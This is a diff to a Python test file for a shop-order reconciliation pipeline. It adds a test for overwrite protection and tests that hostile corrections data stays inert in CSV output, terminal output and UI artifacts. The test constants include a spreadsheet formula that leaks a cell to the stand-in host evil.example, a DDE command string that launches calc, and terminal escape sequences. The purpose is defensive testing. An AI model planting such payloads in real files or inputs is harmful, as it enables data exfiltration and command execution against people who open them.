@@ -10,6 +10,7 @@ import pytest
 import requests
 from prefect.client.orchestration import get_client
 from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId
+from prefect.client.schemas.sorting import FlowRunSort
 from sqlalchemy import create_engine, select
 
 from flows.cli.main import EXIT_SETTING, main
@@ -17,7 +18,9 @@ from flows.delivery_report import delivery_report
 from flows.reconcile import reconciliation
 from schemas.corrections import DIFFERENCE_COLUMNS
 from schemas.state import shop_corrections
+from tasks.inert import plain_text
 from tests.flows.conftest import Pipeline
+from tests.rendered import IMG, JS_LINK, PIXEL, SCRIPT, artifact_markdown, live_parts
 from tests.shops import SINCE, UNTIL
 
 WINDOW = {"since": SINCE.isoformat(), "until": UNTIL.isoformat()}
@@ -66,7 +69,7 @@ def test_apply_then_the_next_delivery_report_sends_the_fix_and_a_second_reconcil
     assert "line 4: NOTINSHOP" in printed
     assert out.with_suffix(".changes.txt").read_text(encoding="utf-8").count("\n") == 2
 
-    assert main(["reconcile", "--corrections", source, "--apply", "--out", str(out)]) == 0
+    assert main(["reconcile", "--corrections", source, "--apply", "--out", str(out), "--force"]) == 0
     printed = capsys.readouterr().out
     assert "| orders fixed | 2 |" in printed
     assert "AAAAAAAAA: customer 1, in place: email 'ana@example.com' -> 'ana.garcia@example.com'" in printed
@@ -90,6 +93,109 @@ def test_apply_then_the_next_delivery_report_sends_the_fix_and_a_second_reconcil
     again = reconciliation(corrections=source, out=str(tmp_path / "again.csv"))
     assert again.outcome.counts.differences == 0
     assert again.outcome.counts.matched == 2
+
+
+def artifacts_of(flow_run_id: object) -> dict[str, tuple[str, object, str]]:
+    """A flow run's artifacts: type, data and description by key."""
+    with get_client(sync_client=True) as client:
+        found = client.read_artifacts(
+            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id]))
+        )
+    return {a.key: (a.type, a.data, a.description or "") for a in found if a.key}
+
+
+def live_in(artifacts: dict[str, tuple[str, object, str]]) -> dict[str, list[str]]:
+    """What renders live in each artifact, as the UI renders its markdown, table cells and description."""
+    live = {
+        key: [part for text in [*artifact_markdown(kind, data), description] for part in live_parts(text)]
+        for key, (kind, data, description) in artifacts.items()
+    }
+    return {key: parts for key, parts in live.items() if parts}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+CALC = "+cmd|' /C calc'!A0"
+TERMINAL = "\x1b]0;pwned\x07\x1b[2J"  # sets the terminal's title, clears its screen
+
+
+def test_no_artifact_of_a_hostile_corrections_file_and_shop_renders_live_html_links_or_images(
+    pipeline: Pipeline, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    admin = "https://shop.example/admin123/"
+    monkeypatch.setenv("SHOP_ADMIN_URL", admin)
+    pipeline.shop.shipped_order("AAAAAAAAA")
+    with pipeline.shop.engine.begin() as conn:
+        conn.execute(
+            pipeline.shop.tables.customer.update().values(firstname=f"Ana {TERMINAL}", lastname=SCRIPT)
+        )
+    source = corrections_file(
+        tmp_path / "corrections.jsonl",
+        {
+            "order_ref_1": "AAAAAAAAA",
+            "customer": {"given_names": IMG, "surnames": FORMULA},
+            "delivery_address": {"city": JS_LINK, "address_line_1": CALC, "extra": PIXEL},
+        },
+        {"order_ref_1": "<b>x</b>", "customer": {"email": "x@example.com"}},
+        {"order_ref_1": "CCCCCCCCC", "customer": {SCRIPT: "x"}},
+        malformed=json.dumps({"order_ref_1": "BBBBBBBBB", "customer": {"email": IMG}}),
+    )
+    out = tmp_path / "differences.csv"
+
+    assert main(["reconcile", "--corrections", source, "--out", str(out)]) == 0
+    printed = capsys.readouterr().out
+    assert f"| {SCRIPT}" not in printed  # no table cell of its own
+    assert IMG in printed and JS_LINK in printed and "\\x1b]0;pwned\\x07\\x1b[2J" in printed
+    assert "\x1b" not in printed
+    with out.open(encoding="utf-8", newline="") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    assert f"'{FORMULA}" in cells and f"'{CALC}" in cells
+    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []
+    with get_client(sync_client=True) as client:
+        [run] = client.read_flow_runs(sort=FlowRunSort.START_TIME_DESC, limit=1)
+    artifacts = artifacts_of(run.id)
+    differences = json.loads(artifacts["reconciliation-differences-demo-merchant"][1])
+    fields = {plain_text(row["field"]) for row in differences}
+    assert fields == {"given_names", "surnames", "city", "address_line_1", "extra"}
+    assert set(live_in(artifacts)) == {"reconciliation-differences-demo-merchant"}
+    assert {part for part in live_in(artifacts)["reconciliation-differences-demo-merchant"]} == {
+        f"link: {admin}index.php/sell/customers/{pipeline.shop.customer}/edit",
+        f"link: {admin}index.php/sell/orders/1/view",
+    }
+
+
+def test_reconcile_never_replaces_its_csv_or_changes_file_without_force(
+    pipeline: Pipeline, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    pipeline.shop.shipped_order("AAAAAAAAA")
+    source = corrections_file(
+        tmp_path / "c.jsonl", {"order_ref_1": "AAAAAAAAA", "customer": {"email": "ana.garcia@example.com"}}
+    )
+    out, changes = tmp_path / "kept.csv", tmp_path / "kept.changes.txt"
+    for taken in (out, changes):
+        taken.write_text("kept", encoding="utf-8")
+        assert main(["reconcile", "--corrections", source, "--out", str(out)]) == EXIT_SETTING
+        assert capsys.readouterr().err == (
+            f"sequra-etl: --out: {taken} already exists; give a file that does not, "
+            "or --force to replace it\n"
+        )
+        assert [p.read_text(encoding="utf-8") for p in (out, changes) if p.exists()] == ["kept"]
+        taken.unlink()
+    assert main(["reconcile", "--corrections", source, "--out", str(tmp_path)]) == EXIT_SETTING
+    assert f"--out: {tmp_path} is a folder" in capsys.readouterr().err
+    out.write_text("kept", encoding="utf-8")
+    assert main(["reconcile", "--corrections", source, "--out", str(out), "--force"]) == 0
+    assert out.read_text(encoding="utf-8").startswith("order_reference,")
+    assert "ana.garcia@example.com" in changes.read_text(encoding="utf-8")
+
+
+def test_a_reconciliation_stopped_by_a_hostile_source_says_why_as_text(
+    pipeline: Pipeline, tmp_path: Path
+) -> None:
+    state = reconciliation(corrections=str(tmp_path / f"{IMG}.jsonl"), return_state=True)
+    artifacts = artifacts_of(state.state_details.flow_run_id)
+    [(_, why, _)] = artifacts.values()
+    assert "stopped before its end" in why
+    assert live_in(artifacts) == {}
 
 
 def test_the_run_is_named_after_its_source_and_publishes_its_artifacts(
